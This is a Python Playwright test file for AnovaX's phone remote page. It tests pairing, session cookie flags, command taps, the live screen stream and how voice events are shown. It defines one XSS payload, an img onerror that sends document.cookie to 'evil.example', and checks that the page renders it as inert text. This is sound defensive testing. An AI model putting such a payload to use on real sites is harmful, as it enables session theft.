"""The phone page in Debian's Chromium (Playwright, phone viewport): pair, tap, watch agents and the screen.

The screen is a real Xvfb with a ticking xterm when both exist, else the synthetic screen.
The page's screenshot goes to the test's tmp_path; the README's docs/phone.png is made by
scripts/phone_screenshot.py from the same kit (tests/remote_kit.py).
"""

from __future__ import annotations

from helpers import wait_for
from remote_kit import CHROMIUM, PHONE, SCREEN_SUM, phone_remote, playwright_or_skip

from anovax.desktop import SimulatedDesktop
from anovax.events import EventType

XSS = '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">'


def test_the_buttons_stay_put_when_the_screen_picture_arrives_or_pauses(tmp_path):
    """A tap aimed at a button must land on it: the picture above the buttons keeps its box
    whether a frame has arrived or not (a layout shift made a loaded run's tap miss)."""
    sync_playwright = playwright_or_skip()
    with phone_remote(tmp_path) as (_assistant, server, _frames):
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=["--no-sandbox"])
            page = browser.new_context(**PHONE).new_page()
            page.goto(server.pairing_url)
            page.wait_for_selector("#remote:not([hidden])")
            button = page.locator("button[data-command='open notepad']")
            wait_for(lambda: page.evaluate(SCREEN_SUM), what="a first frame on the page")
            with_picture = button.bounding_box()
            page.tap("#screen-toggle")  # paused: the <img> has no picture at all
            wait_for(lambda: page.evaluate("() => !document.getElementById('screen').getAttribute('src')"),
                     what="the screen to pause")
            assert button.bounding_box() == with_picture
            browser.close()


def test_phone_page_pairs_runs_a_command_and_shows_the_live_screen(tmp_path):
    sync_playwright = playwright_or_skip()
    desktop = SimulatedDesktop()
    with phone_remote(tmp_path, desktop) as (assistant, server, _frames):
        evil_requests = []
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=["--no-sandbox"])
            context = browser.new_context(**PHONE)
            page = context.new_page()
            page.on("request", lambda r: "evil.example" in r.url and evil_requests.append(r.url))

            # unpaired first: the page says so and streams nothing
            page.goto(server.address + "/")
            page.wait_for_selector("#unpaired:not([hidden])")
            assert server.viewers == 0 and server.event_clients == 0

            page.goto(server.pairing_url)  # what scanning the QR code does
            page.wait_for_selector("#remote:not([hidden])")
            assert page.url == server.address + "/"
            cookie = next(c for c in context.cookies() if c["name"] == "anovax_session")
            assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
            wait_for(lambda: server.event_clients == 1 and server.viewers == 1, what="page streams attached")

            page.tap("button[data-command='open notepad']")
            page.wait_for_selector("#events li[data-type='AGENT_SPAWNED']")
            page.wait_for_selector("#events li[data-type='AGENT_DONE']")
            spawned = page.locator("#events li[data-type='AGENT_SPAWNED']").first.inner_text()
            assert "open_app" in spawned and "notepad" in spawned
            page.wait_for_selector("#replies li")

            # a typed command
            page.fill("#command-text", "what time is it")
            page.press("#command-text", "Enter")
            wait_for(lambda: any(e.type == EventType.COMMAND_DONE and e.data["text"] == "what time is it"
                                 for e in assistant.bus.recent(0)), what="typed command done")

            # the <img> shows new frames as the screen changes
            first = wait_for(lambda: page.evaluate(SCREEN_SUM), what="a first frame on the page")
            wait_for(lambda: page.evaluate(SCREEN_SUM) not in (None, first), timeout_s=30,
                     what="the screen image to change")
            assert server._ctx.screen.encoded >= 2

            page.locator("#command-text").blur()
            shot = tmp_path / "phone.png"
            page.screenshot(path=str(shot), full_page=True)
            assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"

            # transcripts and model replies are shown as text, never as markup (H-28)
            assistant.bus.emit(EventType.COMMAND_RECEIVED, "c-xss", data={"text": XSS})
            page.wait_for_selector("#events li[data-command='c-xss']")
            assert page.locator("#events li[data-command='c-xss'] .detail").inner_text() == XSS
            assert page.locator("#events img").count() == 0
            browser.close()
    assert evil_requests == []
    assert [a.kind for a in desktop.actions][:1] == ["launch"]


def test_the_phone_page_shows_what_was_heard_as_the_orb_words_it(tmp_path):
    """A VOICE_HEARD event (only phrases said to AnovaX are ever sent) is a line in the page's
    event list: the words and the gate's decision, as text."""
    from anovax.orb.heardline import heard_line

    sync_playwright = playwright_or_skip()
    with phone_remote(tmp_path) as (assistant, server, _frames):
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=["--no-sandbox"])
            page = browser.new_context(**PHONE).new_page()
            page.goto(server.pairing_url)
            page.wait_for_selector("#remote:not([hidden])")
            wait_for(lambda: server.event_clients == 1, what="the page's event stream")
            said = [{"action": "command", "text": "open notepad", "heard": "hey anova open notepad",
                     "reason": "wake words with a command"},
                    {"action": "answer", "text": "no", "heard": "no", "reason": "answer to the question"},
                    {"action": "drop", "text": "", "heard": XSS, "reason": "the assistant is speaking"}]
            for data in said:
                assistant.bus.emit(EventType.VOICE_HEARD, "voice", data=data)
            page.wait_for_function("() => document.querySelectorAll(\"#events li[data-type='VOICE_HEARD']\")"
                                   ".length === 3")
            shown = page.locator("#events li[data-type='VOICE_HEARD'] .detail").all_inner_texts()
            assert shown == [heard_line(data) for data in reversed(said)]  # newest first
            assert shown[1] == 'heard "no" → answered no'
            assert page.locator("#events img").count() == 0
            browser.close()
